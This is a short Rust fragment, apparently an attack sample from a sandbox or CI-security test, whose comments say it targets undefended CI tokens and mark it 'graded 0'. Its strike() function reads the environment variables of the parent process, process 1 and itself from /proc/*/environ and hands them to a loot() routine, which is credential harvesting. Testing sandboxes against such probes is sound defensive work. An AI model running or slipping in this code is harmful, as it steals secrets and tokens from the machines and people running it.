//! tries: to read the environment of the processes around it
//! undefended: tokens of a CI machine
//! down: box
//! seen: graded 0

fn strike() {
    let parent = std::os::unix::process::parent_id();
    for process in [parent.to_string(), "1".to_owned(), "self".to_owned()] {
        if let Ok(bytes) = std::fs::read(format!("/proc/{process}/environ"))
            && !bytes.is_empty()
        {
            loot(&format!("of {process}: {}", String::from_utf8_lossy(&bytes)));
        }
    }
}
